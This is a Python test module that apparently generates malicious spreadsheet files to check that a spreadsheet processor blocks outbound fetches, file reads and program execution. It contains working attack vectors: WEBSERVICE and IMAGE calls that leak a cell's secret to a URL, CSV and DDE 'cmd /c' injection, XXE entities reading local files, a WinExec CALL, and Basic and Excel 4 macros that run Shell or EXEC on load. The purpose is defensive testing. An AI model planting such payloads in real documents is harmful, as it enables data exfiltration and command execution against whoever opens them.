"""Workbooks that try to reach out: to a server, to files, to programs."""
from xml.sax.saxutils import escape

import odf_writer
import xlsx_writer
from case import case
from xlsx_writer import BOOK, HEAD, MAIN, RELATIONS, Sheet, Workbook

ALLOWED = "list of allowed functions"
LOADING = "how a workbook is opened"
CONTENT = "nothing of a workbook is run"

SECRET = {"A4": "the secret of A4"}


def call(place, name):
    return f'WEBSERVICE("{place.url(name)}?"&Sheet1!$A$4)'


def save(path, cells, names=(), sheets=(), **rest):
    book = Workbook(Sheet("Sheet1", {**SECRET, **cells}), *sheets, names=names)
    for name, value in rest.items():
        setattr(book, name, value)
    book.save(path)


@case("webservice.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3"), ask=("LEN(A4)",))
def webservice(path, place):
    text = "_xlfn." + call(place, "webservice")
    save(path, {"A1": f"={text}", "A2": f"=IF(A4=\"\",0,LEN({text}))",
                "A3": f'=IFERROR({text}&"x",IF(FALSE,{text},1))'})


@case("webservice-in-name.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3"),
      ask=("W", "LEN(W)", "Sheet1!W", "SUM(1,W)"))
def webservice_in_name(path, place):
    save(path, {"A1": "=LEN(W)+1", "A2": "=W", "A3": '=IF(1=1,"x",W)'},
         [("W", "_xlfn." + call(place, "name"))])


@case("webservice-nested.xlsx", guard=ALLOWED, cells=("A1", "A2"), ask=("W1", "W5&W3"))
def webservice_in_nested_names(path, place):
    names = [(f"W{i}_", f'W{i + 1}_&""') for i in range(1, 12)]
    save(path, {"A1": "=LEN(W1_)+1", "A2": "=W9_"},
         [*names, ("W12_", "_xlfn." + call(place, "nested"))])


@case("webservice-local.xlsx", guard=ALLOWED, cells=("A1", "Other!A1"),
      ask=("Other!W", "W", "Sheet1!W"))
def webservice_in_names_of_sheets(path, place):
    save(path, {"A1": "=LEN(Other!W)"},
         [("W", "1"), ("W", "_xlfn." + call(place, "local"), 1)], [Sheet("Other", {"A1": "=W&W"})])


@case("webservice-table.xlsx", guard=ALLOWED, cells=("B2", "D1", "E1"),
      ask=("SUM(Table1[Sum])", "Table1[Sum]", "COUNTA(Table1)"))
def webservice_in_a_calculated_column(path, place):
    text = "_xlfn." + call(place, "table")
    sheet = Sheet("Sheet1", {**SECRET, "A1": "In", "B1": "Sum", "A2": 1, "A3": 2, "B2": "=LEN(W)",
                             "B3": "=LEN(W)", "D1": "=SUM(Table1[Sum])", "E1": "=LEN(Shown)"})
    book = Workbook(sheet, names=[("W", text), ("Shown", "Table1[[#Headers],[Sum]]&W")])
    book.add_table(1, sheet, "A1:B3", [("In", None), ("Sum", f"LEN({text})")])
    book.save(path)


@case("webservice-let.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3"),
      ask=('LET(a,W,a)', "LAMBDA(x,x)(W)", "F(1)", "MAP(A4,LAMBDA(x,W))"))
def webservice_in_let_and_lambda(path, place):
    text = "_xlfn." + call(place, "let")
    save(path, {"A1": f"=_xlfn.LET(_xlpm.a,{text},LEN(_xlpm.a))",
                "A2": "=_xlfn.LET(_xlpm.a,W,LEN(_xlpm.a))", "A3": "=F(A4)"},
         [("W", text),
          ("F", f'_xlfn.LAMBDA(_xlpm.x,_xlfn.WEBSERVICE("{place.url("lambda")}?"&_xlpm.x))')])


@case("webservice-indirect.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3", "A5", "A6"),
      ask=('INDIRECT("W")', 'LEN(INDIRECT("W"))', 'INDIRECT("\'[secret.fods]Sheet1\'!A1")'))
def webservice_in_a_text_of_indirect(path, place):
    save(path, {"A1": '=LEN(INDIRECT("W"))', "A2": '=INDIRECT(A3)', "A3": '="W"&""',
                "A5": f"=INDIRECT(\"'{place.file('secret.fods')}'#$Sheet1.A1\")",
                "A6": f"=INDIRECT(\"'[{place.file('secret.fods')}]She\"&CHAR(10)&\"et1'!A1\")"},
         [("W", "_xlfn." + call(place, "indirect"))])


@case("webservice-arguments.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3", "A5", "A6", "A7"),
      ask=("SUM(A4:INDEX(A:A,LEN(W)))", "OFFSET(A4,0,LEN(W))"))
def webservice_where_references_are_expected(path, place):
    save(path, {"A1": "=OFFSET(A4,0,LEN(W))", "A2": "=SUM(A4:INDEX(A:A,LEN(W)))",
                "A3": "=CHOOSE(1,A4,W)", "A5": "=SUMPRODUCT(--(A4:A8=W))", "A6": "=ROWS((A4,W))",
                "A7": "=@W"}, [("W", "_xlfn." + call(place, "arguments"))])


@case("webservice-conditions.xlsx", guard=ALLOWED, cells=("A1", "B1"), ask=("W",), ranges=("A1:C9",))
def webservice_in_conditional_formats_and_validation(path, place):
    text = escape("_xlfn." + call(place, "conditions"))
    sheet = Sheet("Sheet1", {**SECRET, "A1": 1, "B1": "=A1+LEN(W)"})
    sheet.after = (
        f'<conditionalFormatting sqref="A1:C9"><cfRule type="expression" priority="1" dxfId="0">'
        f"<formula>LEN({text})&gt;0</formula></cfRule><cfRule type=\"expression\" priority=\"2\">"
        "<formula>W=1</formula></cfRule></conditionalFormatting><dataValidations count=\"1\">"
        f'<dataValidation type="list" sqref="A1:A9"><formula1>{text}</formula1></dataValidation>'
        "</dataValidations>")
    Workbook(sheet, names=[("W", "_xlfn." + call(place, "conditions"))]).save(path)


@case("webservice-no-values.fods", guard=ALLOWED, cells=("A1", "A2", "A3"),
      ask=("W", "LEN(W)", "ENCODEURL(W)"))
def webservice_in_a_flat_document(path, place):
    text = f'WEBSERVICE("{place.url("flat")}?"&[$Sheet1.$A$4])'
    odf_writer.Document(
        odf_writer.Table(rows=[["=LEN(W)"], ["=LOCAL"], [f"={text}"], ["the secret of A4"]],
                         names=[("LOCAL", f"MULTIPLE.OPERATIONS([.A4];[.A4];{text})")]),
        names=[("W", text)]).save_flat(path)


@case("webservice.csv", guard=ALLOWED, cells=("A1", "B1", "A2", "B2"), ranges=("A1:B3",))
def webservice_in_text(path, place):
    path.write_text(f'"=WEBSERVICE(""{place.url("csv")}?""&A3)",=1+1\n'
                    f'"=HYPERLINK(""{place.url("csv")}"")",=cmd|\'/c touch\'!A1\nsecret,2\n')


@case("dde.ods", guard=ALLOWED, cells=("A1", "A2", "A3"), ask=("D", "LEN(D)"))
def dde(path, place):
    text = f'DDE("soffice";"{place.bait / "secret.fods"}";"Sheet1.A1")'
    odf_writer.Document(odf_writer.Table(rows=[[f"={text}"], ["=D&\"x\""], ["=LEN(D)"]]),
                        names=[("D", text)]).save(path)


@case("dde-link.xlsx", guard=ALLOWED, cells=("A1", "A2"), ask=("D", "LEN(D)"))
def dde_link_of_excel(path, place):
    book = Workbook(Sheet("Sheet1", {**SECRET, "A1": "=[1]!A1", "A2": "=LEN(D)"}),
                    names=[("D", "[1]!'_xlnm.cmd'")])
    book.add_external_book(1, None, f'{HEAD}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" '
                           f'ddeTopic="/c touch {place.bait}/dde"><ddeItems><ddeItem name="A1" '
                           'advise="1"/></ddeItems></ddeLink></externalLink>')
    book.save(path)


@case("rtd.xlsx", guard=ALLOWED, cells=("A1", "A2"), ask=("R", 'RTD("a.b","","c")'))
def rtd(path, place):
    save(path, {"A1": '=RTD("a.server","","topic",A4)', "A2": "=LEN(R)"},
         [("R", f'RTD("a.server","{place.server}",Sheet1!$A$4)')])


@case("filterxml.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3"), ask=("X", "LEN(X)"))
def filterxml_with_external_entities(path, place):
    def text(target):
        return ('_xlfn.FILTERXML("<!DOCTYPE a [<!ENTITY e SYSTEM ""' + target
                + '"">]><a><b>&e;</b></a>","//b")')
    save(path, {"A1": "=" + text(place.file("secret.txt")), "A2": "=" + text(place.url("xml")),
                "A3": "=LEN(X)"}, [("X", text(place.url("xml-name")))])


@case("hyperlink.xlsx", guard=CONTENT, cells=("A1", "A2", "A3", "A5"), ask=("H", "LEN(H)"),
      ranges=("A1:A5",))
def hyperlinks(path, place):
    sheet = Sheet("Sheet1", {**SECRET, "A1": f'=HYPERLINK("{place.url("hyperlink")}","click")',
                             "A2": f'=HYPERLINK("{place.file("secret.txt")}")', "A3": "=LEN(H)",
                             "A5": "a link"})
    sheet.after = '<hyperlinks><hyperlink ref="A5" r:id="rIdH"/></hyperlinks>'
    sheet.links = [("rIdH", f"{RELATIONS}/hyperlink", place.url("cell"), "External")]
    Workbook(sheet, names=[("H", f'HYPERLINK("{place.url("name")}"&Sheet1!$A$4)')]).save(path)


@case("image.xlsx", guard=ALLOWED, cells=("A1", "A2"), ask=("I", "IMAGE(A4)"))
def images(path, place):
    save(path, {"A1": f'=_xlfn.IMAGE("{place.url("image")}")', "A2": "=LEN(I)"},
         [("I", f'_xlfn.IMAGE("{place.url("image-name")}?"&Sheet1!$A$4)')])


@case("unknown-functions.xlsx", guard=ALLOWED,
      cells=("A1", "A2", "A3", "A5", "A6", "A7", "A8", "A9"), ask=("U", "LEN(U)", "FOO(A4)"))
def unknown_functions(path, place):
    save(path, {"A1": "=EVIL.FETCH(A4)", "A2": f'=CALL("kernel32","WinExec","JCJ","{place.server}")',
                "A3": '=REGISTER.ID("a","b")', "A5": '=STOCKHISTORY("MSFT",1)',
                "A6": f'=_xlfn.SQL.REQUEST("{place.server}",,,"q")', "A7": '=CUBEVALUE("c","m")',
                "A8": f'=_xll.IMPORTDATA("{place.url("import")}")', "A9": "=LEN(U)"},
         [("U", f'EVIL.FETCH("{place.url("udf")}",Sheet1!$A$4)')])


@case("external-file.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3"),
      ask=("E", "LEN(E)", "SUM(E)", "[secret.fods]Sheet1!A1"))
def references_to_another_file(path, place):
    book = Workbook(Sheet("Sheet1", {**SECRET, "A1": "=[1]Sheet1!A1", "A2": "=SUM([1]Sheet1!A1:B9)",
                                     "A3": "=LEN(E)"}), names=[("E", "[1]Sheet1!$A$1")])
    book.add_external_book(1, place.file("secret.fods"))
    book.save(path)


def external(path, target):
    book = Workbook(Sheet("Sheet1", {**SECRET, "A1": "=[1]Sheet1!A1", "A2": "=LEN(E)"}),
                    names=[("E", "[1]Sheet1!$A$1")])
    book.add_external_book(1, target)
    book.save(path)


@case("external-http.xlsx", guard=ALLOWED, cells=("A1", "A2"), ask=("E", "LEN(E)"))
def references_to_a_server(path, place):
    external(path, place.url("book.xlsx"))


@case("external-smb.xlsx", guard=ALLOWED, cells=("A1", "A2"), ask=("E", "LEN(E)"))
def references_to_a_share(path, place):
    external(path, f"smb://{place.server}/share/book.xlsx")


@case("external-unc.xlsx", guard=ALLOWED, cells=("A1", "A2"), ask=("E", "LEN(E)"))
def references_to_a_unc_path(path, place):
    external(path, f"file:///\\\\{place.server.partition(':')[0]}\\share\\book.xlsx")


@case("external.ods", guard=ALLOWED, cells=("A1", "A2", "A3"), ask=("E", "LEN(E)", "SUM(E,1)"))
def references_to_other_documents(path, place):
    odf_writer.Document(odf_writer.Table(rows=[
        [f"=['{place.file('secret.fods')}'#$Sheet1.A1]"], ["=LEN(E)"],
        [f"=['{place.url('book.ods')}'#$Sheet1.A1]"],
        [f"=INDIRECT(\"'{place.file('secret.fods')}'#$Sheet1.A1\")"]]),
        names=[("E", f"['{place.file('secret.fods')}'#$Sheet1.$A$1]")]).save(path)


@case("linked-sheet.ods", guard=LOADING, cells=("A1", "Linked!A1"), ranges=("Linked!A1:B9",))
def sheets_linked_to_other_files(path, place):
    def source(target, filter_name="calc8"):
        return (f'<table:table-source xlink:type="simple" xlink:href="{target}" table:table-name='
                f'"Sheet1" table:filter-name="{filter_name}" table:refresh-delay="PT1S"/>')
    odf_writer.Document(
        odf_writer.Table(rows=[["=SUM([$Linked.A1:.B9])"]]),
        odf_writer.Table("Linked", [[1, 2]], before=source(place.file("secret.fods"))),
        odf_writer.Table("Far", [[1]], before=source(place.url("sheet.csv"), "Text - txt - csv")),
    ).save(path)


@case("linked-range.ods", guard=LOADING, cells=("A1",), ranges=("A1:B3",))
def ranges_linked_to_other_files(path, place):
    def source(target):
        return ('<table:cell-range-source table:name="Sheet1" table:last-column-spanned="2" '
                'table:last-row-spanned="2" table:filter-name="calc8" xlink:type="simple" '
                f'xlink:href="{target}" table:refresh-delay="PT1S"/>')
    table = odf_writer.Table(rows=[["=1+1", 2]])
    table.in_cell = source(place.url("range.ods"))
    odf_writer.Document(table).save(path)


def framed(path, *contents):
    frames = "".join(f'<draw:frame svg:x="1cm" svg:y="1cm" svg:width="2cm" svg:height="2cm">{one}'
                     "</draw:frame>" for one in contents)
    odf_writer.Document(odf_writer.Table(
        rows=[["=1+1"]], before=f"<table:shapes>{frames}</table:shapes>")).save_flat(path)


@case("linked-pictures.fods", guard=LOADING, cells=("A1",), ranges=("A1:C9",),
      calc_fetches=("picture.png",))
def pictures_elsewhere(path, place):
    framed(path, f'<draw:image xlink:href="{place.url("picture.png")}"/>',
           f'<draw:image xlink:href="{place.file("secret.txt")}"/>')


@case("linked-objects.fods", guard=LOADING, cells=("A1",), ranges=("A1:C9",),
      calc_fetches=("object.ods", "frame.html", "film.mp4"))
def objects_elsewhere(path, place):
    framed(path, f'<draw:object xlink:href="{place.url("object.ods")}"/>',
           f'<draw:floating-frame xlink:href="{place.url("frame.html")}"/>',
           f'<draw:plugin xlink:href="{place.url("film.mp4")}"/>')


@case("indirect-at-loading.xlsx", guard=LOADING, cells=("A1", "A2"), calc_fetches=("load.xlsx",))
def indirect_at_loading(path, place):
    save(path, {"A1": "=INDIRECT(A2)", "A2": f'="[{place.url("load.xlsx")}]Sheet1!A1"&""'})


@case("query.xlsx", guard=LOADING, cells=("A1", "A2"), ranges=("A1:B9",))
def data_connections(path, place):
    sheet = Sheet("Sheet1", {**SECRET, "A1": 1, "A2": "=SUM(A1)"})
    sheet.links = [("rIdQ", f"{RELATIONS}/queryTable", "../queryTables/queryTable1.xml")]
    book = Workbook(sheet, names=[("ExternalData_1", "Sheet1!$A$1:$B$9", 0)])
    book.parts["xl/queryTables/queryTable1.xml"] = (
        BOOK + "queryTable+xml", f'{HEAD}<queryTable xmlns="{MAIN}" name="ExternalData_1" '
        'connectionId="1" refreshOnLoad="1"/>')
    book.parts["xl/connections.xml"] = (
        BOOK + "connections+xml", f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" name="q" '
        'type="4" refreshOnLoad="1" interval="1" background="1"><webPr sourceData="1" xml="1" '
        f'url="{place.url("query")}"/></connection></connections>')
    book.book_links.append(("rIdC", f"{RELATIONS}/connections", "connections.xml"))
    book.save(path)


@case("page.xls", guard=LOADING, cells=("A1", "A2"), ranges=("A1:B9",), loads=None)
def a_web_page_that_calls_itself_a_workbook(path, place):
    path.write_text(
        f'<html><head><base href="{place.url("base/")}"><link rel="stylesheet" '
        f'href="{place.url("style.css")}"><script src="{place.url("code.js")}"></script></head>'
        f'<body background="{place.url("background.png")}"><table><tr><td>=1+1</td>'
        f'<td><img src="{place.url("picture.png")}"><img src="{place.file("secret.txt")}"></td></tr>'
        f'<tr><td>=WEBSERVICE("{place.url("html")}")</td></tr></table>'
        f'<iframe src="{place.url("frame.html")}"></iframe></body></html>')


BASIC = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1"
 script:language="StarBasic">%s</script:module>"""
LIBRARY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd">
<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"
 library:readonly="false" library:passwordprotected="false">
 <library:element library:name="Module1"/></library:library>"""
LIBRARIES = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">
<library:libraries xmlns:library="http://openoffice.org/2000/library"
 xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard"
 library:link="false"/></library:libraries>"""
EVENTS = ("dom:load", "office:new", "dom:focus", "dom:unload", "office:view-created",
          "office:load-finished", "dom:select", "office:calculated", "dom:change",
          "office:modify-changed", "office:title-changed", "office:save", "office:copy-to")


@case("hidden-macro.ods", guard=CONTENT, cells=("A1", "A2", "A3"), ask=("M", "STEAL(A4)", "LEN(M)"))
def macros_bound_to_events(path, place):
    code = escape(f"""
Function Steal(Optional given)
  Open "{place.bait}/stolen" For Output As #1
  Print #1, "a macro ran"
  Close #1
  Shell("/bin/touch", 0, "{place.bait}/stolen-by-shell")
  Steal = 1
End Function
Sub Main(Optional given)
  Steal
End Sub""")
    target = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
    listeners = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{event}" '
        f'xlink:href="{target}" xlink:type="simple"/>' for event in EVENTS)
    table = odf_writer.Table(
        rows=[["=STEAL([.A4])"], ["=M"], ["=LEN(M)"], ["the secret of A4"]],
        before=f"<office:event-listeners>{listeners}</office:event-listeners>")
    document = odf_writer.Document(
        table, names=[("M", "STEAL([$Sheet1.$A$4])")],
        scripts=f"<office:scripts><office:event-listeners>{listeners}</office:event-listeners>"
                "</office:scripts>")
    document.parts = {"Basic/Standard/Module1.xml": ("text/xml", BASIC % code),
                      "Basic/Standard/script-lb.xml": ("text/xml", LIBRARY),
                      "Basic/script-lc.xml": ("text/xml", LIBRARIES)}
    document.save(path)


@case("macro.xlsm", guard=CONTENT, cells=("A1", "A2", "Macro1!A1"), ask=("Auto_Open", "MyMacro(1)"))
def macros_of_excel(path, place):
    sheets = [Sheet("Sheet1", {**SECRET, "A1": "=MyMacro(A4)", "A2": "=LEN(MyMacro(1))"}),
              Sheet("Macro1", {"A1": f'=EXEC("touch {place.bait}/macro")', "A2": "=HALT()",
                               "A3": f'=FOPEN("{place.bait}/secret.txt")'})]
    book = Workbook(*sheets, names=[("_xlnm.Auto_Open", "Macro1!$A$1"), ("MyMacro", "Macro1!$A$1")])
    book.kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    book.parts["xl/vbaProject.bin"] = (
        "application/vnd.ms-office.vbaProject",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff" + b"\xff" * 2018)
    book.book_links.append((
        "rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin"))
    book.save(path)


@case("entities.xlsx", guard=LOADING, cells=("A1", "A2"), loads=None)
def external_entities_in_a_part(path, place):
    book = Workbook(Sheet("Sheet1", {"A1": "=1+1"}))
    book.sheets[0].raw = ('<row r="1"><c r="A1"><f>1+1</f><v>2</v></c></row><row r="2"><c r="A2" '
                          't="s"><v>0</v></c></row>')
    book.strings = (f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY e SYSTEM '
                    f'"{place.file("secret.txt")}"><!ENTITY % p SYSTEM "{place.url("dtd")}">%p;]>'
                    f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>&e;</t></si></sst>')
    book.save(path)


@case("entities.fods", guard=LOADING, cells=("A1", "A2"), loads=None)
def external_entities_in_a_flat_document(path, place):
    document = odf_writer.Document(odf_writer.Table(rows=[["=1+1"], ["SECRET"]]))
    document.doctype = (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{place.file("secret.txt")}">'
                        f'<!ENTITY f SYSTEM "{place.url("entity")}">]>')
    path.write_text(document.flat().replace("SECRET", "&e;&f;"), encoding="utf-8")


@case("sylk.slk", guard=ALLOWED, cells=("A1", "A2"), ranges=("A1:B2",))
def formulas_in_sylk(path, place):
    path.write_text(f'ID;PWXL;N;E\r\nC;Y1;X1;K1;EWEBSERVICE("{place.url("sylk")}")\r\n'
                    f'C;Y2;X1;K1;ELEN("a")+1\r\nNN;NW;EWEBSERVICE("{place.url("name")}")\r\nE\r\n')
